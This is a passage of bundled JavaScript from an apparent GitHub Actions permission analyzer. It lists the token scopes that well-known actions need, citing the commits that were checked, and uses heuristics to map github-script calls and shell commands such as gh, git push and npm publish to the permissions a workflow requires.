    token: explicitToken("github_token"),
    scopes: [
      oidc("exchange for the Claude app token", [{ input: "github_token", is: "unset" }]),
      { ...r("actions", "read workflow results", [{ input: "additional_permissions", matches: /actions:\s*read/ }]), viaToken: false }
    ],
    unknown: "the agent's tools decide what it writes",
    source: 'anthropics/claude-code-action action.yml: `github_token` has no default (an app token is obtained otherwise); github.token is passed as DEFAULT_WORKFLOW_TOKEN; additional_permissions "actions: read"'
  },
  {
    action: "bluwy/auto-branch-sync-action",
    token: jobToken(),
    scopes: [w("contents", "push the synced branches", [{ input: "dry-run", notMatches: /^true$/ }])],
    source: "bluwy/auto-branch-sync-action action.yml: `token` defaults to github.token, pushes directories to other branches"
  },
  {
    action: "jbolda/covector/packages/action",
    token: explicitToken(),
    scopes: [],
    unknown: "what it writes (releases, comments) depends on `command`",
    source: "jbolda/covector packages/action/action.yml: `token` defaults to ''"
  }
];
var VERIFIED = {
  "actions/checkout": 'actions/checkout:action.yml@02c7380 (token default github.token); README "Recommended permissions"',
  "actions/download-artifact": "actions/download-artifact:action.yml@055cd68",
  "actions/upload-artifact": "actions/upload-artifact:action.yml@02dd1e4",
  "actions/cache/restore": "actions/cache:restore/action.yml@11ab7cc",
  "actions/cache/save": "actions/cache:save/action.yml@12a1a35",
  "actions/setup-python": "actions/setup-python:action.yml@05b0430",
  "actions/setup-node": "actions/setup-node:action.yml@02041c0",
  "actions/setup-go": "actions/setup-go:action.yml@02aadfe",
  "actions/setup-dotnet": "actions/setup-dotnet:action.yml@00e970a",
  "astral-sh/setup-uv": "astral-sh/setup-uv:action.yml@0a4790f",
  "swatinem/rust-cache": "Swatinem/rust-cache:action.yml@028a3ac",
  "taiki-e/install-action": "taiki-e/install-action:action.yml@006361d (github.token only as DEFAULT_GITHUB_TOKEN for downloads)",
  "actions/github-script": "actions/github-script:action.yml@044ebbb",
  "dtolnay/rust-toolchain": "dtolnay/rust-toolchain:action.yml@00e2247",
  "docker/setup-buildx-action": "docker/setup-buildx-action:action.yml@03082a1",
  "docker/setup-qemu-action": "docker/setup-qemu-action:action.yml@02897d0",
  "pnpm/action-setup": "pnpm/action-setup:action.yml@0aabe9d",
  "pyo3/maturin-action": "PyO3/maturin-action:action.yml@020000b",
  "dsherret/rust-toolchain-file": "dsherret/rust-toolchain-file:action.yml@037c5f6",
  "denoland/setup-deno": "denoland/setup-deno:action.yml@06a6402",
  "docker/login-action": "docker/login-action:action.yml@087884b",
  "actions/create-github-app-token": "actions/create-github-app-token:action.yml@00ba6ed",
  "electron/github-app-auth-action": "electron/github-app-auth-action:action.yml@384fd19",
  "moonrepo/setup-rust": "moonrepo/setup-rust:action.yml@128d910",
  "open-security-tools/ost-simple-sts": "open-security-tools/ost-simple-sts:action.yml@3cd786e",
  "actions/attest-build-provenance": "actions/attest-build-provenance:action.yml@06c4efb",
  "actions/attest": "actions/attest:action.yml@01e19e4",
  "actions/attest-sbom": "actions/attest-sbom:action.yml@07e74fc",
  "softprops/action-gh-release": "softprops/action-gh-release:action.yml@030d4ce",
  "peter-evans/create-pull-request": "peter-evans/create-pull-request:action.yml@053b501",
  "github/codeql-action/init": "github/codeql-action:init/action.yml@010abe7",
  "github/codeql-action/analyze": "github/codeql-action:analyze/action.yml@03e7845",
  "github/codeql-action/upload-sarif": "github/codeql-action:upload-sarif/action.yml@03e7845",
  "rui314/setup-mold": "rui314/setup-mold:action.yml@04fe15b",
  "dorny/paths-filter": "dorny/paths-filter:action.yml@0510efd",
  "uraimo/run-on-arch-action": "uraimo/run-on-arch-action:action.yml@13832e4",
  "golangci/golangci-lint-action": "golangci/golangci-lint-action:action.yml@06e45e8",
  "codspeedhq/action": "CodSpeedHQ/action:action.yml@0268161 (`token` is a CodSpeed token)",
  "docker/metadata-action": "docker/metadata-action:action.yml@03eb07f",
  "zizmorcore/zizmor-action": "zizmorcore/zizmor-action:action.yml@0c6b039",
  "openai/codex-action": "openai/codex-action:action.yml@0006efa (github.token only checks the actor's write access)",
  "codecov/codecov-action": "codecov/codecov-action:action.yml@038c89e",
  "actions/stale": 'actions/stale:action.yml@002bc97; README@00005d3 "Recommended permissions"',
  "re-actors/alls-green": "re-actors/alls-green:action.yml@3a2de12",
  "ossf/scorecard-action": "ossf/scorecard-action:action.yaml@037e7b7",
  "aws-actions/configure-aws-credentials": "aws-actions/configure-aws-credentials:action.yml@0271a81",
  "google-github-actions/auth": "google-github-actions/auth:action.yml@12ea1f1",
  "azure/login": "Azure/login:action.yml@06f20c5",
  "hashicorp/vault-action": "hashicorp/vault-action:action.yml@01bb0f9",
  "rust-lang/crates-io-auth-action": "rust-lang/crates-io-auth-action:action.yml@05f529d",
  "goreleaser/goreleaser-action": "goreleaser/goreleaser-action:action.yml@04ed112 (no token input)",
  "actions/publish-immutable-action": "actions/publish-immutable-action:action.yml@120663b",
  "actions/labeler": "actions/labeler:action.yml@000ca75",
  "actions/first-interaction": "actions/first-interaction:action.yml@0fe5db2",
  "actions/deploy-pages": "actions/deploy-pages:action.yml@0143e11",
  "actions/configure-pages": "actions/configure-pages:action.yml@0968db9",
  "actions/dependency-review-action": "actions/dependency-review-action:action.yml@00f1f5b",
  "actions/delete-package-versions": "actions/delete-package-versions:action.yml@00623cb",
  "actions/ai-inference": "actions/ai-inference:action.yml@51ecd8a",
  "ncipollo/release-action": "ncipollo/release-action:action.yml@028c2af",
  "svenstaro/upload-release-action": "svenstaro/upload-release-action:action.yml@011f795",
  "googleapis/release-please-action": "googleapis/release-please-action:action.yml@031c4c9",
  "release-drafter/release-drafter": "release-drafter/release-drafter:action.yml@01bde76 (no token input: env GITHUB_TOKEN)",
  "changesets/action": "changesets/action:action.yml@0139b5b (no token input: env GITHUB_TOKEN)",
  "marvinpinto/action-automatic-releases": "marvinpinto/action-automatic-releases:action.yml@3e11549",
  "peter-evans/repository-dispatch": "peter-evans/repository-dispatch:action.yml@0ae1c4b",
  "peter-evans/create-or-update-comment": "peter-evans/create-or-update-comment:action.yml@27ae523",
  "peter-evans/find-comment": "peter-evans/find-comment:action.yml@0304620",
  "marocchino/sticky-pull-request-comment": "marocchino/sticky-pull-request-comment:action.yml@02d678b (declares pull-requests: write)",
  "thollander/actions-comment-pull-request": "thollander/actions-comment-pull-request:action.yml@0422a4d",
  "mshick/add-pr-comment": "mshick/add-pr-comment:action.yml@08849c5",
  "py-cov-action/python-coverage-comment-action": "py-cov-action/python-coverage-comment-action:action.yml@02d20de",
  "stefanzweifel/git-auto-commit-action": "stefanzweifel/git-auto-commit-action:action.yml@0822a9b",
  "endbug/add-and-commit": "EndBug/add-and-commit:action.yml@018fe62",
  "jamesives/github-pages-deploy-action": "JamesIves/github-pages-deploy-action:action.yml@09a5452",
  "peaceiris/actions-gh-pages": "peaceiris/actions-gh-pages:action.yml@0629bab",
  "crazy-max/ghaction-github-pages": "crazy-max/ghaction-github-pages:action.yml@077e8dc (no token input: env GITHUB_TOKEN)",
  "dessant/lock-threads": "dessant/lock-threads:action.yml@0a0976f",
  "amannn/action-semantic-pull-request": "amannn/action-semantic-pull-request:action.yml@04b071e",
  "tj-actions/changed-files": "tj-actions/changed-files:action.yml@0026098",
  "dawidd6/action-download-artifact": "dawidd6/action-download-artifact:action.yml@07ab29f",
  "hmarr/auto-approve-action": "hmarr/auto-approve-action:action.yml@1b5fe29",
  "dependabot/fetch-metadata": "dependabot/fetch-metadata:action.yml@0ca01a5",
  "pascalgn/automerge-action": "pascalgn/automerge-action:action.yml@0215836 (no inputs: env GITHUB_TOKEN)",
  "actions-ecosystem/action-add-labels": "actions-ecosystem/action-add-labels:action.yml@00f047b",
  "github/issue-labeler": "github/issue-labeler:action.yml@08c9bc1",
  "enricomi/publish-unit-test-result-action": "EnricoMi/publish-unit-test-result-action:action.yml@00dc83b",
  "dorny/test-reporter": "dorny/test-reporter:action.yml@00c66cb",
  "mikepenz/action-junit-report": "mikepenz/action-junit-report:action.yml@0390b63",
  "super-linter/super-linter": "super-linter/super-linter:action.yml@00011ba (docker; env only)",
  "docker/build-push-action": "docker/build-push-action:action.yml@01bd5c1",
  "docker/bake-action": "docker/bake-action:action.yml@063b84c",
  "octokit/request-action": "octokit/request-action:action.yml@094fe1c",
  "anthropics/claude-code-action": "anthropics/claude-code-action:action.yml@0082843",
  "ko-build/setup-ko": "ko-build/setup-ko:action.yml@1077500",
  "garnet-org/action": "garnet-org/action:action.yml@065c51c",
  "bluwy/auto-branch-sync-action": "bluwy/auto-branch-sync-action:action.yml@256b507",
  "jbolda/covector/packages/action": "jbolda/covector:packages/action/action.yml@028ae89",
  "tj-actions/verify-changed-files": "tj-actions/verify-changed-files:action.yml@02cd305",
  "github/codeql-action/autobuild": "github/codeql-action:autobuild/action.yml@03e7845 (token default github.token)",
  "google-github-actions/setup-gcloud": "google-github-actions/setup-gcloud:action.yml@0421dbc",
  "azure/cli": "Azure/cli:action.yml@0002db4",
  "pnpm/setup": "pnpm/setup:action.yml@0447c75 (`token` deprecated, unused)",
  "actions/setup-java": "actions/setup-java:action.yml@0097df8 (token default github.token on github.com, '' elsewhere)",
  "actions/upload-artifact/merge": "actions/upload-artifact:merge/action.yml@0232efd",
  "actions/cache": "actions/cache:action.yml@592a609 (the copy read by default, 0019037, is a fork's)",
  "actions/upload-pages-artifact": "actions/upload-pages-artifact:action.yml@0252fc4 (composite of upload-artifact)",
  "msys2/setup-msys2": "msys2/setup-msys2:action.yml@0baa240",
  "jetli/wasm-bindgen-action": "jetli/wasm-bindgen-action:action.yml@817c0fb",
  "jetli/wasm-pack-action": "jetli/wasm-pack-action:action.yml@7380804",
  "hendrikmuhs/ccache-action": "hendrikmuhs/ccache-action:action.yml@005b441",
  "conda-incubator/setup-miniconda": "conda-incubator/setup-miniconda:action.yml@036481b",
  "bencherdev/bencher": "bencherdev/bencher:action.yml@14cf54a",
  "embarkstudios/cargo-deny-action": "EmbarkStudios/cargo-deny-action:action.yml@e0caf87 (docker; another stored version, 15da055, is a composite that runs actions/checkout)",
  "vmactions/freebsd-vm": "vmactions/freebsd-vm:action.yml@061db50",
  "slackapi/slack-github-action": "slackapi/slack-github-action:action.yml@006e592",
  "taiki-e/setup-cross-toolchain-action": "taiki-e/setup-cross-toolchain-action:action.yml@0eb33ca",
  "pypa/cibuildwheel": "pypa/cibuildwheel:action.yml@013a7cc (composite; setup-python without token)",
  "juliangruber/read-file-action": "juliangruber/read-file-action:action.yml@190d4b2",
  "crate-ci/typos": "crate-ci/typos:action.yml@0708757",
  "chainguard-dev/actions/kind-diag": "chainguard-dev/actions:kind-diag/action.yaml@0f2b1b2",
  "cargo-bins/cargo-binstall": "cargo-bins/cargo-binstall:action.yml@07b23b5 (composite, no token input)",
  "bacongobbler/azure-blob-storage-upload": "bacongobbler/azure-blob-storage-upload:action.yml@1bc9b77",
  "azure/artifact-signing-action": "Azure/artifact-signing-action:action.yml@08821f2",
  "azure/trusted-signing-action": "Azure/trusted-signing-action:action.yml@02b9af2",
  "tsickert/discord-webhook": "tsickert/discord-webhook:action.yml@0c13d66",
  "tombi-toml/setup-tombi": "tombi-toml/setup-tombi:action.yml@0f685ab",
  "step-security/harden-runner": "step-security/harden-runner:action.yml@018beb8",
  "sigstore/cosign-installer": "sigstore/cosign-installer:action.yml@0115d73",
  "sigstore/scaffolding/actions/setup": "sigstore/scaffolding:actions/setup/action.yml@015113f (github.token only reads sigstore/scaffolding's latest release)",
  "samuelcolvin/check-python-version": "samuelcolvin/check-python-version:action.yml@1887907",
  "ruby/setup-ruby": "ruby/setup-ruby:action.yml@0effb2c (a node12 version: no token input)",
  "pre-commit/action": "pre-commit/action:action.yml@91e5549 (composite; the copy read by default, 05732e8, is the node12 v2 with a `token` to push)",
  "pdm-project/setup-pdm": "pdm-project/setup-pdm:action.yml@1c39d42",
  "obi1kenobi/cargo-semver-checks-action": "obi1kenobi/cargo-semver-checks-action:action.yml@00b3af3",
  "nick-fields/retry": "nick-fields/retry:action.yml@0842359",
  "montudor/action-zip": "montudor/action-zip:action.yml@9a14b79",
  "lukka/run-vcpkg": "lukka/run-vcpkg:action.yml@09d7db5",
  "golang/govulncheck-action": "golang/govulncheck-action:action.yml@07a01e4",
  "electron/secret-service-action": "electron/secret-service-action:action.yml@19d0c3f; README@aeff6ed",
  "depot/setup-action": "depot/setup-action:action.yml@11b21d0; README@4fd1eb6",
  "bufbuild/buf-setup-action": "bufbuild/buf-setup-action:action.yml@934b66f (and 0050ab7: `github_token` has no default)",
  "bufbuild/buf-lint-action": "bufbuild/buf-lint-action:action.yml@3d81748 (`buf_token` only; an older version, 0b60edd, required `github_token`)",
  "bufbuild/buf-breaking-action": "bufbuild/buf-breaking-action:action.yml@b7f579f; README@09397a5",
  "bats-core/bats-action": "bats-core/bats-action:action.yaml@07a36c8",
  "addnab/docker-run-action": "addnab/docker-run-action:action.yml@2358843",
  "google/oss-fuzz/infra/cifuzz/actions/build_fuzzers": "google/oss-fuzz:infra/cifuzz/actions/build_fuzzers/action.yml@e4999b8",
  "google/oss-fuzz/infra/cifuzz/actions/run_fuzzers": "google/oss-fuzz:infra/cifuzz/actions/run_fuzzers/action.yml@86138af",
  "aws-actions/amazon-ecr-login": "aws-actions/amazon-ecr-login:action.yml@10f1782",
  "aquasecurity/trivy-action": "aquasecurity/trivy-action:action.yaml@0024b3f (`github-pat` is a PAT for SBOM submission)",
  "aquasecurity/setup-trivy": "aquasecurity/setup-trivy:action.yaml@53ef279 (`token` checks out aquasecurity/trivy)",
  "haskell-actions/setup": "haskell-actions/setup:action.yml@0564961",
  "erlef/setup-beam": "erlef/setup-beam:action.yml@cf692c3 (`github-token` read-only)",
  "gradle/actions/setup-gradle": "gradle/actions:setup-gradle/action.yml@06905c7; docs/setup-gradle.md@06905c7",
  "mlugg/setup-zig": "mlugg/setup-zig:action.yml@031c6b2",
  "oven-sh/setup-bun": "oven-sh/setup-bun:action.yml@95ed8fe (and 01789a0: no token input)",
  "arduino/setup-protoc": "arduino/setup-protoc:action.yml@0fb3d10",
  "coverallsapp/github-action": "coverallsapp/github-action:action.yml@0135638",
  "trufflesecurity/trufflehog": "trufflesecurity/trufflehog:action.yml@021483f",
  "google-ml-infra/actions/setup-uv-python": "google-ml-infra/actions:setup-uv-python/action.yml@3437ff6 (composite of astral-sh/setup-uv)",
  "dsanders11/project-actions/edit-item": "dsanders11/project-actions:edit-item/action.yml@027f6a4 (`token` required: PAT or app token)",
  "dsanders11/project-actions/add-item": "dsanders11/project-actions:add-item/action.yml@027f6a4 (`token` required: PAT or app token)",
  "dsanders11/project-actions/find-project": "dsanders11/project-actions:find-project/action.yml@3a81985 (`token` required: PAT or app token)",
  "actions/add-to-project": "actions/add-to-project:action.yml@0609a27 (`github-token` required: a PAT)",
  "mislav/bump-homebrew-formula-action": "mislav/bump-homebrew-formula-action:action.yml@1533e85 (no token input)",
  "autofix-ci/action": "autofix-ci/action:action.yml@33ab42c",
  "christian-korneck/update-container-description-action": "christian-korneck/update-container-description-action:action.yml@d360055",
  "bus1/cabuild/action/msdevshell": "bus1/cabuild:action/msdevshell/action.yml@76921b7",
  "petarpetrovt/setup-sde": "petarpetrovt/setup-sde:action.yml@03a68a2",
  "endbug/version-check": "EndBug/version-check:action.yml@2902db6 (an older version, 2476fd9, has no default)",
  "prometheus/promci-setup": "prometheus/promci-setup:action.yml@08af6d4",
  "actions/publish-action": 'actions/publish-action:action.yml@5cdf6d6; README@0a555c8 "Recommended permissions" (the copy read by default, 56fa8c8, is unrelated)',
  "actions/create-release": "actions/create-release:action.yml@131b819; README@0cb9c9b (env GITHUB_TOKEN)",
  "actions/upload-release-asset": "actions/upload-release-asset:action.yml@89977b7; README@21dee7a (env GITHUB_TOKEN)",
  "pypa/gh-action-pypi-publish": 'pypa/gh-action-pypi-publish:action.yml@b526ff8; README@4864f13 "Trusted publishing"',
  "depot/build-push-action": "depot/build-push-action:action.yml@2053cb7; README@6246e3c (a DEPOT_TOKEN env var also avoids OIDC)",
  "sigstore/gh-action-sigstore-python": "sigstore/gh-action-sigstore-python:action.yml@607296a; README@3fd774a",
  "reviewdog/action-setup": "reviewdog/action-setup:action.yml@12f42f5"
};
var TABLE = /* @__PURE__ */ new Map();
for (const entry of [...NO_SCOPES, ...WITH_SCOPES]) {
  const read = VERIFIED[entry.action];
  TABLE.set(entry.action, read ? { ...entry, source: `${read}; ${entry.source}`, verified: true } : { ...entry, verified: false });
}
function actionPermissions(target) {
  return TABLE.get(target.toLowerCase());
}

// server/src/permissions/github-script.ts
var NAMESPACES = {
  issues: "issues",
  pulls: "pull-requests",
  repos: "contents",
  git: "contents",
  actions: "actions",
  checks: "checks",
  codeScanning: "security-events",
  packages: "packages",
  projects: "repository-projects",
  reactions: "comment",
  dependencyGraph: "contents"
};
var REPOS_METHODS = [
  [/Status/i, "statuses"],
  [/Deployment/i, "deployments"],
  [/Pages/i, "pages"],
  [/Collaborator|Invitation|Webhook|Hook|Autolink|DeployKey/i, "administration"]
];
var COMMENT_LIKE = /^(createComment|updateComment|deleteComment|addLabels|removeLabel|removeAllLabels|setLabels|addAssignees|removeAssignees)$/;
function analyzeGithubScript(script) {
  const needs = [];
  const unknowns = [];
  if (/\brequire\s*\(|\bimport\s*\(/.test(script)) unknowns.push("the script loads code from a file");
  if (/\bgithub\.(request|graphql)\b/.test(script)) unknowns.push("the script calls `github.request`/`github.graphql`");
  const re = /\bgithub\.(?:rest\.)?([A-Za-z]+)\.([A-Za-z]+)\b/g;
  for (let m = re.exec(script); m; m = re.exec(script)) {
    const [, namespace, method] = m;
    if (namespace === "rest" || namespace === "context" || namespace === "paginate") continue;
    let scope = NAMESPACES[namespace];
    if (!scope) {
      unknowns.push(`\`github.rest.${namespace}.${method}\``);
      continue;
    }
    const read = /^(get|list|check|compare|download)/.test(method);
    if (namespace === "repos") {
      for (const [pattern, other] of REPOS_METHODS) if (pattern.test(method)) scope = other;
      if (method === "createDispatchEvent") scope = "contents";
    }
    if (scope === "administration") {
      unknowns.push(`\`github.rest.repos.${method}\` needs administration rights the job token lacks`);
      continue;
    }
    if (namespace === "issues" && !read && COMMENT_LIKE.test(method)) scope = "comment";
    needs.push({ scope, level: read ? "read" : "write", what: `github-script ${namespace}.${method}` });
  }
  if (needs.length === 0 && unknowns.length === 0 && /\bgithub\b/.test(script.replace(/\bcontext\.|github\.context/g, ""))) {
    if (/\bgithub\s*[,)\]]|=\s*github\b|\bgithub\s*\[/.test(script)) unknowns.push("the script passes the client around");
  }
  return { needs, unknowns };
}

// server/src/permissions/run-heuristics.ts
function splitCommands(script) {
  const joined = script.replace(/\\\r?\n/g, " ");
  const commands = [];
  for (const rawLine of joined.split(/\r?\n/)) {
    const line = withoutComment(rawLine);
    for (const part of line.split(/;|&&|\|\||\|/)) {
      const trimmed = part.trim();
      if (trimmed) commands.push(trimmed);
    }
  }
  return commands;
}
function withoutComment(line) {
  let lastBreak = 0;
  for (let i = line.length - 1; i >= 0; i--) {
    if (line[i] === "\r" || line[i] === "\u2028" || line[i] === "\u2029") {
      lastBreak = i + 1;
      break;
    }
  }
  for (let i = line.indexOf("#", lastBreak); i !== -1; i = line.indexOf("#", i + 1)) {
    if (i === 0) return "";
    if (/\s/.test(line[i - 1])) return line.slice(0, i - 1);
  }
  return line;
}
function words(command) {
  const found = [];
  const re = /"([^"]*)"|'([^']*)'|(\S+)/g;
  for (let m = re.exec(command); m; m = re.exec(command)) found.push(m[1] ?? m[2] ?? m[3]);
  return found;
}
var GH_SUBCOMMANDS = {
  pr: {
    comment: [["pull-requests", "write"]],
    create: [["pull-requests", "write"]],
    edit: [["pull-requests", "write"]],
    review: [["pull-requests", "write"]],
    close: [["pull-requests", "write"]],
    reopen: [["pull-requests", "write"]],
    ready: [["pull-requests", "write"]],
    lock: [["pull-requests", "write"]],
    unlock: [["pull-requests", "write"]],
    merge: [
      ["contents", "write"],
      ["pull-requests", "write"]
    ],
    "update-branch": [
      ["contents", "write"],
      ["pull-requests", "write"]
    ],
    checkout: [
      ["contents", "read"],
      ["pull-requests", "read"]
    ],
    view: [["pull-requests", "read"]],
    list: [["pull-requests", "read"]],
    diff: [["pull-requests", "read"]],
    checks: [
      ["pull-requests", "read"],
      ["checks", "read"]
    ],
    status: [["pull-requests", "read"]]
  },
  issue: {
    create: [["issues", "write"]],
    comment: [["issues", "write"]],
    edit: [["issues", "write"]],
    close: [["issues", "write"]],
    reopen: [["issues", "write"]],
    lock: [["issues", "write"]],
    unlock: [["issues", "write"]],
    delete: [["issues", "write"]],
    pin: [["issues", "write"]],
    unpin: [["issues", "write"]],
    transfer: [["issues", "write"]],
    develop: [
      ["issues", "write"],
      ["contents", "write"]
    ],
    view: [["issues", "read"]],
    list: [["issues", "read"]],
    status: [["issues", "read"]]
  },
  label: {
    create: [["issues", "write"]],
    edit: [["issues", "write"]],
    delete: [["issues", "write"]],
    clone: [["issues", "write"]],
    list: [["issues", "read"]]
  },
  release: {
    create: [["contents", "write"]],
    upload: [["contents", "write"]],
    edit: [["contents", "write"]],
    delete: [["contents", "write"]],
    "delete-asset": [["contents", "write"]],
    view: [["contents", "read"]],
    list: [["contents", "read"]],
    download: [["contents", "read"]],
    verify: [
      ["contents", "read"],
      ["attestations", "read"]
    ]
  },
  workflow: {
    run: [["actions", "write"]],
    enable: [["actions", "write"]],
    disable: [["actions", "write"]],
    view: [["actions", "read"]],
    list: [["actions", "read"]]
  },
  run: {
    rerun: [["actions", "write"]],
    cancel: [["actions", "write"]],
    delete: [["actions", "write"]],
    view: [["actions", "read"]],
    list: [["actions", "read"]],
    watch: [["actions", "read"]],
    download: [["actions", "read"]]
  },
  cache: { delete: [["actions", "write"]], list: [["actions", "read"]] },
  repo: { clone: [["contents", "read"]], view: [["contents", "read"]], sync: [["contents", "write"]] },
  // Secrets, variables and rulesets are beyond the job token; auth/extension/search need no scope.
  secret: {},
  variable: {},
  auth: {},
  extension: {},
  search: {},
  browse: {},
  attestation: { verify: [["attestations", "read"]] }
};
var API_SEGMENTS = {
  issues: "issues",
  labels: "issues",
  milestones: "issues",
  pulls: "pull-requests",
  releases: "contents",
  git: "contents",
  contents: "contents",
  commits: "contents",
  branches: "contents",
  tags: "contents",
  compare: "contents",
  merges: "contents",
  dispatches: "contents",
  "dependency-graph": "contents",
  actions: "actions",
  "check-runs": "checks",
  "check-suites": "checks",
  statuses: "statuses",
  deployments: "deployments",
  environments: "deployments",
  pages: "pages",
  "code-scanning": "security-events",
  "secret-scanning": "security-events",
  discussions: "discussions",
  attestations: "attestations"
};
function ghApiNeed(args2) {
  let method = null;
  let hasFields = false;
  let path = null;
  for (let i = 0; i < args2.length; i++) {
    const arg = args2[i];
    if (arg === "-X" || arg === "--method") method = (args2[++i] ?? "").toUpperCase();
    else if (arg.startsWith("--method=")) method = arg.slice("--method=".length).toUpperCase();
    else if (/^-X[A-Za-z]+$/.test(arg)) method = arg.slice(2).toUpperCase();
    else if (/^(-f|-F|--field|--raw-field|--input)$/.test(arg)) {
      hasFields = true;
      i++;
    } else if (/^(--field|--raw-field|--input)=/.test(arg)) hasFields = true;
    else if (/^(-H|--header|-q|--jq|-t|--template|--hostname|--cache|-p|--preview)$/.test(arg)) i++;
    else if (!arg.startsWith("-") && path === null) path = arg;
  }
  if (!path) return { unknown: "`gh api` without a readable endpoint" };
  const write = method ? method !== "GET" && method !== "HEAD" : hasFields;
  if (/^\/?graphql\b/.test(path)) return { unknown: "`gh api graphql` (the query decides the scopes)" };
  const clean = cutFromFirst(path.replace(/^https?:\/\/[^/]+/, "").replace(/^\/+/, ""), "?");
  const segments = clean.split("/");
  if (segments[0] !== "repos") {
    if (segments[0] === "user" || segments[0] === "orgs" || segments[0] === "users") {
      if (segments.includes("packages")) return { scope: "packages", level: write ? "write" : "read", path };
    }
    return write ? { unknown: `\`gh api ${path}\` (${method ?? "POST"})` } : null;
  }
  const oneSegment = /^(\$\{?GITHUB_REPOSITORY\}?|\$\{\{\s*github\.repository\s*\}\})$/.test(segments[1] ?? "");
  const rest = segments.slice(oneSegment ? 2 : 3);
  if (rest.length === 0)
    return write ? { unknown: `\`gh api ${path}\` (${method ?? "POST"})` } : { scope: "contents", level: "read", path };
  if (rest[0] === "commits" && (rest[2] === "statuses" || rest[2] === "status"))
    return { scope: "statuses", level: write ? "write" : "read", path };
  if (rest[0] === "commits" && rest[2] === "check-runs") return { scope: "checks", level: "read", path };
  const scope = API_SEGMENTS[rest[0].replace(/\$.*/, "")];
  if (!scope) return { unknown: `\`gh api ${path}\`` };
  if (scope === "issues" && rest[0] === "issues" && write && (rest[2] === "comments" || rest[2] === "labels" || rest[2] === "reactions"))
    return { scope: "comment", level: "write", path };
  return { scope, level: write ? "write" : "read", path };
}
function commandWord(list) {
  let i = 0;
  while (i < list.length && (/^[A-Za-z_][A-Za-z0-9_]*=/.test(list[i]) || /^(env|sudo|exec|time|command|xargs|nohup|then|do|else|\(|\{|!)$/.test(list[i])))
    i++;
  if (i >= list.length) return null;
  const name = list[i].replace(/^\$\(/, "").replace(/^.*\//, "");
  return { name, index: i };
}
var INTERESTING = /(^|[^A-Za-z0-9_-])(gh|git|mkdocs|ghp-import|gh-pages|goreleaser|semantic-release|codeql|uv|npm|pnpm|yarn|npx|maturin|cosign|docker)(?![A-Za-z0-9_])/;
function analyzeRun(script, context) {
  const needs = [];
  const unknowns = [];
  let usesTokenCommand = false;
  const add = (scope, level, what, viaToken = true) => needs.push({ scope, level, what, viaToken });
  for (const command of INTERESTING.test(script) ? splitCommands(script) : []) {
    if (!INTERESTING.test(command)) continue;
    const list = words(command);
    const head = commandWord(list);
    if (!head) continue;
    const args2 = list.slice(head.index + 1);
    const name = head.name;
    if (name === "gh") {
      usesTokenCommand = true;
      const group = args2[0];
      if (group === "api") {
        const need = ghApiNeed(args2.slice(1));
        if (need && "unknown" in need) unknowns.push(need.unknown);
        else if (need) add(need.scope, need.level, `gh api ${need.path.length > 40 ? `${need.path.slice(0, 40)}…` : need.path}`);
        continue;
      }
      const table = group ? GH_SUBCOMMANDS[group] : void 0;
      const sub = args2.find((arg, index) => index > 0 && !arg.startsWith("-"));
      const scopes = table && sub ? table[sub] : void 0;
      if (scopes && scopes !== "none") for (const [scope, level] of scopes) add(scope, level, `gh ${group} ${sub}`);
      continue;
    }
    if (name === "git" && args2.includes("push")) {
      add("contents", "write", "git push");
      continue;
    }
    if (name === "mkdocs" && args2[0] === "gh-deploy" || name === "ghp-import" && args2.some((a) => a === "-p" || a === "--push") || name === "gh-pages" || /^(npx|pnpm|yarn)$/.test(name) && args2[0] === "gh-pages") {
      add("contents", "write", name === "mkdocs" ? "mkdocs gh-deploy" : name === "ghp-import" ? "ghp-import --push" : "gh-pages");
      continue;
    }
    if (name === "goreleaser" && (args2.includes("release") || args2.length === 0 || args2[0].startsWith("-"))) {
      usesTokenCommand = true;
      add("contents", "write", "goreleaser release");
      continue;
    }
    if (name === "semantic-release" || (name === "npx" || name === "pnpm" || name === "yarn") && args2[0] === "semantic-release") {
      usesTokenCommand = true;
      add("contents", "write", "semantic-release");
      add("issues", "write", "semantic-release");
      add("pull-requests", "write", "semantic-release");
      continue;
    }
    if (name === "codeql" && args2[0] === "github" && args2[1] === "upload-results") {
      usesTokenCommand = true;
      add("security-events", "write", "codeql github upload-results");
      continue;
    }
    if (name === "uv" && args2[0] === "publish") {
      const explicit = args2.some((a) => /^(--token|-t|--password|-p|--username|-u)(=|$)/.test(a) || a === "--trusted-publishing=never") || /--trusted-publishing\s+never/.test(command);
      if (!explicit && !context.env.has("UV_PUBLISH_TOKEN") && !context.env.has("UV_PUBLISH_PASSWORD"))
        add("id-token", "write", "uv publish (trusted publishing)", false);
      continue;
    }
    if ((name === "npm" || name === "pnpm" || name === "yarn") && (args2[0] === "publish" || args2[0] === "npm" && args2[1] === "publish")) {
      const provenance = args2.includes("--provenance") || context.env.has("NPM_CONFIG_PROVENANCE");
      const hasToken = context.env.has("NODE_AUTH_TOKEN") || context.env.has("NPM_TOKEN") || context.env.has("NPM_AUTH_TOKEN");
      if (provenance || !hasToken)
        add("id-token", "write", `${name} publish${provenance ? " --provenance" : " (trusted publishing)"}`, false);
      continue;
    }
    if (name === "maturin" && (args2[0] === "upload" || args2[0] === "publish")) {
      const explicit = args2.some((a) => /^(--password|-p|--username|-u)(=|$)/.test(a)) || context.env.has("MATURIN_PYPI_TOKEN") || context.env.has("MATURIN_PASSWORD");
      if (!explicit) add("id-token", "write", `maturin ${args2[0]} (trusted publishing)`, false);
      continue;
    }
    if (name === "cosign" && /^(sign|attest|sign-blob|attest-blob)$/.test(args2[0] ?? "") && !args2.some((a) => /^--key(=|$)/.test(a))) {
      add("id-token", "write", `cosign ${args2[0]} (keyless)`, false);
      continue;
    }
    if (name === "docker" && args2[0] === "login" && args2.some((a) => /^ghcr\.io/.test(a))) {
      usesTokenCommand = true;
      add("packages", "write", "docker login ghcr.io");
      continue;
    }
  }
  if (/ACTIONS_ID_TOKEN_REQUEST_(URL|TOKEN)/.test(script) && !needs.some((need) => need.scope === "id-token"))
    add("id-token", "write", "requests an OIDC token", false);
  return { needs, unknowns, usesTokenCommand };
}
function scriptReadsVariable(script, names) {
  const reads = variableReads(script);
  for (const name of names) if (reads.has(name)) return true;
  return false;
}
var isWordChar = (ch) => ch !== void 0 && (ch >= "a" && ch <= "z" || ch >= "A" && ch <= "Z" || ch >= "0" && ch <= "9" || ch === "_");
var WORD_NAME = /^[A-Za-z0-9_]+$/;
var lastScript = null;
var lastReads = null;
function variableReads(script) {
  if (script === lastScript && lastReads) return lastReads;
  const words2 = /* @__PURE__ */ new Set();
  const keys = [];
  const wordAt = (start) => {
    let end = start;
    while (isWordChar(script[end])) end++;
    if (end > start) words2.add(script.slice(start, end));
  };
  const keyAt = (start) => {
